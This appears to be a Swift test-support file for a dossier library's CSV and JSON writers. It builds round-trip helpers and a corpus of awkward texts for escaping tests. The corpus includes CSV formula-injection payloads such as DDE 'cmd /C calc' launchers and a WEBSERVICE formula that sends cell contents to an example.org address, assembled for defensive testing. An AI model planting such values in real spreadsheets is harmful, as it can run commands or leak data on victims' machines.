import DossierCSV
import DossierCore
import DossierJSON
import DossierKit
import DossierLoading
import Foundation
import TestSupport
import Testing

/// A dossier as the writers for programs wrote it, in memory.
struct WrittenDossier {
  /// By path.
  var files: [String: [UInt8]]
  let findings: [Finding]
  private let release: Release

  init(_ dossier: Dossier, _ profile: TableProfile) throws {
    let checkResult = dossier.checked()
    let release = try #require(checkResult.dossier, "\(checkResult.findings.filter { $0.severity == .error })")
      .release()
    try self.init(release, profile)
  }

  init(_ release: Release, _ profile: TableProfile) throws {
    let writer = CSVWriter()
    var context = Self.context
    context.options = WriterOptions(for: writer, outputs: OptionTree(), overrides: ["profile": profile.rawValue])
    var sink = MemorySink()
    findings = try writer.write(release, in: context, into: &sink)
    _ = try JSONWriter().write(release, in: Self.context, into: &sink)
    self.release = release
    files = Dictionary(uniqueKeysWithValues: sink.artifacts.map { ($0.path, $0.body) })
  }

  var json: [UInt8] { files["dossier.json"] ?? [] }

  func text(_ path: String) -> String { String(decoding: files[path] ?? [], as: UTF8.self) }

  /// Puts the files, and dossier.ndjson, into a folder.
  func write(to folder: URL) throws {
    var sink = MemorySink()
    _ = try NDJSONWriter().write(release, in: Self.context, into: &sink)
    var files = files
    for artifact in sink.artifacts { files[artifact.path] = artifact.body }
    for (path, bytes) in files {
      let file = folder.appending(path: path)
      try FileManager.default.createDirectory(at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
      try Data(bytes).write(to: file)
    }
  }

  /// What loading the tables, and the head of dossier.json, comes to.
  func loaded() throws -> CheckResult {
    var head = try #require(try JSONSerialization.jsonObject(with: Data(json)) as? [String: Any])
    head["computed"] = nil
    for collection in EntityKind.allCases.map(\.collection) { head[collection] = "csv/\(collection).csv" }
    let files = files
    let source = DossierFiles(
      name: { $0 },
      contents: { path in
        files[path].map { .success($0) } ?? .failure(Finding(.missingFile, "there is no \(path)"))
      })
    let bytes = [UInt8](try JSONSerialization.data(withJSONObject: head))
    return DossierLoader.load(bytes, file: "dossier.json", syntax: .json, files: source).checked()
  }

  /// `dossier.json` of the tables.
  func reloadedJSON() throws -> [UInt8] {
    let checkResult = try loaded()
    let release = try #require(checkResult.dossier, "\(checkResult.findings.filter { $0.severity == .error })")
      .release()
    var sink = MemorySink()
    _ = try JSONWriter().write(release, in: Self.context, into: &sink)
    return try #require(sink["dossier.json"])
  }

  private static let context = WritingContext(
    date: Moment(seconds: 1_700_000_000), generator: "test", labels: Labels(language: "en", texts: [:]))
}

/// Texts that outputs can carry, out of the corpora that are there.
enum HardTexts {
  /// Naughty strings, what csv-spectrum has in its cells, formulas, and traps of our own.
  static let all: [String] = {
    var texts = GeneratedDossier.traps
    texts += ((try? Corpora.naughtyStrings()) ?? []).filter { !$0.hasNothingToSee }
    for url in Corpora.files(below: "csv-spectrum/json") {
      let rows = (try? JSONSerialization.jsonObject(with: Data(contentsOf: url))) as? [[String: String]] ?? []
      texts += rows.flatMap { $0.sorted { $0.key < $1.key }.flatMap { [$0.key, $0.value] } }
    }
    for url in Corpora.files(below: "payloads") {
      let text = (try? String(contentsOf: url, encoding: .utf8)) ?? ""
      texts += text.split(whereSeparator: \.isNewline).map(String.init)
    }
    return texts.filter(isCarried)
  }()

  /// At least so many cells that a spreadsheet would take for formulas: every sign in front of every kind of text.
  static let formulas: [String] = {
    let signs = ["=", "+", "-", "@", "\t=", "\n=", "＝", "＋", "－", "＠", "'=", "''+"]
    let rests = [
      "", "1+1", "A1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "HYPERLINK(\"https://example.org\",\"x\")", "1", "text", "-1",
      "\"x\"", " 1", "WEBSERVICE(\"https://example.org/\"&A1)", "IMPORTXML(\"x\",\"y\")",
      "DDE(\"cmd\";\"/C calc\";\"x\")",
      "1e9", "2023-05-03", "0", "'", "=", "A1:B2", "1;2", "1,2", "TRUE()", "NA()", "x\ny", "é", "漢", "🙂", "#REF!",
      "(1)",
    ]
    return signs.flatMap { sign in rests.map { sign + $0 } }
  }()

  private static func isCarried(_ text: String) -> Bool {
    !text.isEmpty
      && text.unicodeScalars.allSatisfy {
        $0.value >= 0x20 && $0.value != 0xFFFE && $0.value != 0xFFFF || "\t\n\r".unicodeScalars.contains($0)
      }
  }

  /// A dossier whose quotes have these texts, and their translations, contexts, tags and locators.
  static func dossier(_ texts: [String], id: EntityID = "traps") -> Dossier {
    var dossier = Dossier(title: "Traps")
    dossier.id = id
    dossier.parties = [Party(id: "pty-one", name: "One")]
    dossier.quotes = texts.enumerated().map { offset, text in
      var quote = Quote(id: EntityID("quo-\(offset)"), text: text, speaker: "pty-one")
      quote.locator = text
      quote.context = Prose(source: text, blocks: [])
      quote.tags = [text]
      return quote
    }
    dossier.quotes[0].translations = texts.map { Translation(language: "fr", text: $0) }
    return dossier
  }
}
